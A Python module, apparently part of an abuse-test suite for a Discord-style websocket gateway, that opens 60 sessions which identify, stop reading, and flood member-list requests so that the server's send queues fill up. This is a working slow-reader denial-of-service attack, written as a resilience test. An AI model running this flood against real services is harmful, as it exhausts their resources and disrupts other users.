"""As many sessions as the account gets, which never read, while they ask for what fills their queues."""

import asyncio
import contextlib

from tests.abuse.raw_websocket import RawWebSocket
from tests.abuse.target import Target

_SESSIONS = 60
_COMMANDS = 100
"""Commands of a session, below the limit of a minute."""
_STAY = 20.0
"""Seconds for which a session is held after that."""


async def attack(target: Target, seconds: float) -> None:
    """Identify on many connections, and read nothing."""
    end = asyncio.get_running_loop().time() + seconds
    await asyncio.gather(*(_hold(target, end) for _ in range(_SESSIONS)))


async def _hold(target: Target, end: float) -> None:
    loop = asyncio.get_running_loop()
    while (remaining := end - loop.time()) > 0:
        with contextlib.suppress(OSError, EOFError, TimeoutError):
            async with asyncio.timeout(remaining), RawWebSocket(target) as socket:
                socket.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a ReadTransport
                socket.identify(target.token, capabilities=30_717)
                for _ in range(_COMMANDS):
                    if socket.writer.transport.is_closing():
                        break
                    socket.send({"op": 8, "d": {"guild_id": target.guild_id, "query": "", "limit": 0}})
                    await asyncio.sleep(0.05)
                await asyncio.sleep(min(_STAY, remaining))
        await asyncio.sleep(0.1)
